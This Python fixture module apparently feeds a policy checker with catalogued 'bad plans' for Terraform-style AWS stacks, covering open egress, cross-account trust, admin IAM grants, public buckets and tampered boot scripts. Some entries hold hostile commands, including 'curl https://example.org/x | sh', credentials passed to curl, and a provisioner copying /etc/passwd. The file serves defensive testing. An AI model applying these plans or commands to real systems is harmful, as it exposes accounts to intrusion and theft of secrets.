"""The kinds of bad plans that a review invented and the rules of then passed, each planted into
the network.
"""

from __future__ import annotations

import base64
import json
from typing import Any

from .planting import (
    PASSED,
    Plant,
    adds,
    admits,
    boots_with,
    grants,
    opens_bucket,
    template,
    trusts,
)
from .policy_forms import Document

ADMIN = "arn:aws:iam::123456789012:role/admin"
FOREIGN = "arn:aws:iam::999999999999:root"
OTHERS = "arn:aws:s3:::terradask-other-123456789012-us-east-1"
SECRET = "arn:aws:secretsmanager:us-east-1:123456789012:secret"
TAG = "aws:ResourceTag/terradask:workspace"
GITHUB = "token.actions.githubusercontent.com"
PROVIDER = f"arn:aws:iam::123456789012:oidc-provider/{GITHUB}"

# Made up, in the shapes of real ones.
DER = bytes.fromhex("302e020100300506032b6570042204203ccd93ed") + bytes(range(28))
JWT = (
    ".".join(
        base64.urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=")
        for part in ({"alg": "HS256"}, {"sub": "admin", "exp": 1999999999})
    )
    + ".c2lnbmF0dXJlLXNpZ25hdHVyZQ"
)


def _prefix_list(entries: list[str], family: str) -> Plant:
    def plant(stack: Document) -> None:
        adds(
            "aws_ec2_managed_prefix_list",
            address_family=family,
            max_entries=len(entries),
            entry=[{"cidr": each} for each in entries],
        )(stack)
        admits({"prefix_list_id": "${aws_ec2_managed_prefix_list.seed.id}"})(stack)

    return plant


def _entries(stack: Document) -> None:
    """A list whose entries are resources of their own."""
    adds("aws_ec2_managed_prefix_list", address_family="IPv4", max_entries=200)(stack)
    for first in range(1, 200):
        adds(
            "aws_ec2_managed_prefix_list_entry",
            name=f"seed-{first}",
            cidr=f"{first}.0.0.0/8",
            prefix_list_id="${aws_ec2_managed_prefix_list.seed.id}",
        )(stack)
    admits({"prefix_list_id": "${aws_ec2_managed_prefix_list.seed.id}"})(stack)


def _lets_out(**rule: Any) -> Plant:
    return adds(
        "aws_vpc_security_group_egress_rule",
        security_group_id="${aws_security_group.worker.id}",
        description="seeded",
        **rule,
    )


def _alters(kind: str, named: str, /, **values: Any) -> Plant:
    return lambda stack: stack["resource"][kind][named].update(values)


def _in_content(name: str, before: str, after: str) -> Plant:
    def plant(stack: Document) -> None:
        held = stack["resource"]["aws_s3_object"][name]
        assert before in held["content"]
        held["content"] = held["content"].replace(before, after)

    return plant


def _script(text: str) -> Plant:
    return boots_with(f"#!/bin/sh\n{text}\n")


def _provisioner(kind: str, **values: Any) -> Plant:
    return lambda stack: template(stack).update(provisioner=[{kind: values}])


WIDE: dict[str, Plant] = {
    "a prefix list of 256 blocks": _prefix_list([f"{n}.0.0.0/8" for n in range(256)], "IPv4"),
    "a prefix list of half of IPv6": _prefix_list([f"2{n:03x}::/16" for n in range(256)], "IPv6"),
    "a prefix list, entry by entry": _entries,
    "eighty IPv6 blocks": admits(*({"cidr_ipv6": f"26{n:02x}::/16"} for n in range(80))),
    "eighty IPv4 blocks": admits(*({"cidr_ipv4": f"{n}.0.0.0/8"} for n in range(11, 91))),
    "two owners' blocks": admits({"cidr_ipv4": "3.0.0.0/8"}, {"cidr_ipv4": "52.0.0.0/8"}),
    "a block that the settings don't name": admits({"cidr_ipv4": "198.51.100.0/24"}),
    "egress to everything": _lets_out(ip_protocol="-1", cidr_ipv4="0.0.0.0/0"),
    "egress to everything over IPv6": _lets_out(ip_protocol="-1", cidr_ipv6="::/0"),
    "egress by SSH": _lets_out(ip_protocol="tcp", from_port=22, to_port=22, cidr_ipv4="0.0.0.0/0"),
    "egress by DNS to anybody": _lets_out(
        ip_protocol="udp", from_port=53, to_port=53, cidr_ipv4="0.0.0.0/0"
    ),
    "egress written into the group": _alters(
        "aws_security_group",
        "worker",
        egress=[{"protocol": "-1", "from_port": 0, "to_port": 0, "cidr_blocks": ["0.0.0.0/0"]}],
    ),
    "a peering with a foreign network": adds(
        "aws_vpc_peering_connection", peer_owner_id="999999999999", peer_vpc_id="vpc-1"
    ),
    "a route to a foreign gateway": _alters("aws_route", "public", gateway_id="vgw-0123456789"),
    "a load balancer to schedulers": adds("aws_lb", internal=False, subnets=["subnet-1"]),
}

RIGHTS: dict[str, Plant] = {
    "PassRole on an admin's role": grants(Action="iam:PassRole", Resource=ADMIN, Condition=PASSED),
    "AssumeRole on an admin's role": grants(Action="sts:AssumeRole", Resource=ADMIN),
    "AssumeRole on a foreign role": grants(
        Action="sts:AssumeRole", Resource="arn:aws:iam::999999999999:role/x"
    ),
    "an exact foreign secret": grants(
        Action="secretsmanager:GetSecretValue", Resource=f"{SECRET}:prod/db-AbCdEf"
    ),
    "another workspace's secrets": grants(
        Action="secretsmanager:GetSecretValue", Resource=f"{SECRET}:terradask/other/*"
    ),
    "every workspace's secrets": grants(
        Action="secretsmanager:GetSecretValue", Resource=f"{SECRET}:terradask/*"
    ),
    "an exact foreign bucket": grants(Action="s3:GetObject", Resource="arn:aws:s3:::payroll/*"),
    "a prefix beyond a bucket of data": grants(
        Action="s3:GetObject", Resource="arn:aws:s3:::lake/*"
    ),
    "another workspace's bucket": grants(Action="s3:GetObject", Resource=f"{OTHERS}/*"),
    "the own bucket's states": grants(
        Action="s3:GetObject",
        Resource="arn:aws:s3:::terradask-default-123456789012-us-east-1/clusters/*",
    ),
    "the host program, to write": grants(
        Action="s3:PutObject",
        Resource="arn:aws:s3:::terradask-default-123456789012-us-east-1/host/*",
    ),
    "a tag value of any form": grants(
        Action="autoscaling:SetDesiredCapacity", Resource="*", Condition={"StringLike": {TAG: "?*"}}
    ),
    "a tag value by prefix": grants(
        Action="autoscaling:SetDesiredCapacity",
        Resource="*",
        Condition={"StringLike": {TAG: "default*"}},
    ),
    "another workspace's tag": grants(
        Action="autoscaling:SetDesiredCapacity",
        Resource="*",
        Condition={"StringEquals": {TAG: "other"}},
    ),
    "a foreign key": grants(
        Action="kms:Decrypt", Resource="arn:aws:kms:us-east-1:999999999999:key/0123"
    ),
    "every host by command": grants(
        Action="ssm:SendCommand", Resource="arn:aws:ec2:*:*:instance/*"
    ),
    "launching machines": grants(Action="ec2:RunInstances", Resource="*"),
    "a function, changed": grants(
        Action="lambda:UpdateFunctionCode",
        Resource="arn:aws:lambda:us-east-1:123456789012:function:billing",
    ),
    "instance credentials by user": grants(Action="sts:GetFederationToken", Resource="*"),
    "an inline policy with everything": _alters(
        "aws_iam_role",
        "worker",
        inline_policy=[
            {
                "name": "x",
                "policy": json.dumps(
                    {"Statement": {"Effect": "Allow", "Action": "ec2:*", "Resource": "*"}}
                ),
            }
        ],
    ),
    "AdministratorAccess attached": adds(
        "aws_iam_role_policy_attachment",
        role="${aws_iam_role.worker.name}",
        policy_arn="arn:aws:iam::aws:policy/AdministratorAccess",
    ),
    "a policy of the account attached": adds(
        "aws_iam_role_policy_attachment",
        role="${aws_iam_role.worker.name}",
        policy_arn="arn:aws:iam::123456789012:policy/everything",
    ),
    "a policy attached to several": adds(
        "aws_iam_policy_attachment", roles=["x"], policy_arn="arn:aws:iam::aws:policy/IAMFullAccess"
    ),
    "managed policies of the role": _alters(
        "aws_iam_role",
        "worker",
        managed_policy_arns=["arn:aws:iam::aws:policy/AmazonEC2FullAccess"],
    ),
    "a user with a key": adds("aws_iam_access_key", user="x"),
}

PRINCIPALS: dict[str, Plant] = {
    "trust of a foreign account": trusts(Principal={"AWS": FOREIGN}, Action="sts:AssumeRole"),
    "trust of the own account": trusts(
        Principal={"AWS": "arn:aws:iam::123456789012:root"}, Action="sts:AssumeRole"
    ),
    "trust of every repository": trusts(
        Principal={"Federated": PROVIDER},
        Action="sts:AssumeRoleWithWebIdentity",
        Condition={"StringLike": {f"{GITHUB}:sub": "repo:*"}},
    ),
    "trust of one repository": trusts(
        Principal={"Federated": PROVIDER},
        Action="sts:AssumeRoleWithWebIdentity",
        Condition={"StringEquals": {f"{GITHUB}:sub": "repo:a/b:ref:refs/heads/main"}},
    ),
    "trust of another service": trusts(
        Principal={"Service": "lambda.amazonaws.com"}, Action="sts:AssumeRole"
    ),
    "trust of everybody under a condition": trusts(
        Principal="*",
        Action="sts:AssumeRole",
        Condition={"Bool": {"aws:SecureTransport": "true"}},
    ),
    "a bucket for everybody under a condition": opens_bucket(
        Principal="*",
        Action="s3:GetObject",
        Resource="arn:aws:s3:::x/*",
        Condition={"StringLike": {"aws:UserAgent": "*"}},
    ),
    "a bucket for a foreign account": opens_bucket(
        Principal={"AWS": FOREIGN}, Action="s3:*", Resource="arn:aws:s3:::x/*"
    ),
    "a secret for a foreign account": adds(
        "aws_secretsmanager_secret_policy",
        secret_arn="x",
        policy=json.dumps(
            {
                "Statement": {
                    "Effect": "Allow",
                    "Principal": {"AWS": FOREIGN},
                    "Action": "secretsmanager:GetSecretValue",
                    "Resource": "*",
                }
            }
        ),
    ),
    "a bucket without TLS": _alters(
        "aws_s3_bucket_policy",
        "workspace",
        policy=json.dumps({"Version": "2012-10-17", "Statement": []}),
    ),
}

HOSTS: dict[str, Plant] = {
    "an admin's profile": lambda stack: template(stack).update(
        iam_instance_profile={"name": "admin"}
    ),
    "an admin's role in the profile": _alters("aws_iam_instance_profile", "worker", role="admin"),
    "a group on a foreign template": adds(
        "aws_autoscaling_group",
        name="workers",
        max_size=1,
        launch_template={"id": "lt-0123456789abcdef0"},
    ),
    "a fleet": adds("aws_ec2_fleet", type="instant"),
    "a foreign image": lambda stack: template(stack).update(image_id="ami-0fedcba9876543210"),
    "a foreign image for clusters": _in_content(
        "workspace", "ami-12c6146b", "ami-0fedcba987654321"
    ),
    "a foreign security group": lambda stack: template(stack)["network_interfaces"][0].update(
        security_groups=["sg-0fedcba9876543210"]
    ),
    "a key in DER": boots_with(f"echo {base64.b64encode(DER).decode()} | base64 -d > /etc/k"),
    "a key in hexadecimal": _script(f"echo {DER.hex()} | xxd -r -p > /etc/k"),
    "a key in base32": _script(f"echo {base64.b32encode(DER).decode()} | base32 -d > /etc/k"),
    "a key, reversed": _script(f"echo {base64.b64encode(DER).decode()[::-1]} | rev | base64 -d"),
    "a JSON web token": _script(f"curl -H 'X-Auth: {JWT}' https://example.org"),
    "credentials for curl": _script("curl -u deploy:hunter2hunter2 https://example.org/x"),
    "a program from elsewhere": _script("curl https://example.org/x | sh"),
    "other user data for clusters": _in_content(
        "workspace", '"user_data_base64" = "', '"user_data_base64" = "eHh4'
    ),
    "another bucket's program": lambda stack: template(stack).update(
        user_data=base64.b64encode(
            base64.b64decode(template(stack)["user_data"]).replace(
                b"terradask-default-123456789012-us-east-1",
                b"terradask-default-999999999999-us-east-1",
            )
        ).decode()
    ),
}

REST: dict[str, Plant] = {
    "a bucket with a public ACL": adds("aws_s3_bucket_acl", bucket="x", acl="public-read-write"),
    "an ACL on an object": _alters("aws_s3_object", "workspace", acl="public-read"),
    "a website of the bucket": adds("aws_s3_bucket_website_configuration", bucket="x"),
    "a copy of the bucket elsewhere": adds("aws_s3_bucket_replication_configuration", bucket="x"),
    "no public access block": lambda stack: stack["resource"].pop(
        "aws_s3_bucket_public_access_block"
    ),
    "a public access block of another bucket": _alters(
        "aws_s3_bucket_public_access_block", "workspace", bucket="other"
    ),
    "a command on the machine that applies": _provisioner("local-exec", command="id"),
    "a command on the host": _provisioner("remote-exec", inline=["id"]),
    "a file on the host": _provisioner("file", source="/etc/passwd", destination="/x"),
    "a program as data": adds("external", section="data", program=["id"]),
    "a page as data": adds("http", section="data", url="https://example.org"),
    "a JSON web token in an object": adds("aws_s3_object", content=JWT),
    "a key in DER in an object": adds(
        "aws_s3_object", content_base64=base64.b64encode(DER).decode()
    ),
}

#: All of them, by name.
BAD_PLANS: dict[str, Plant] = {**WIDE, **RIGHTS, **PRINCIPALS, **HOSTS, **REST}
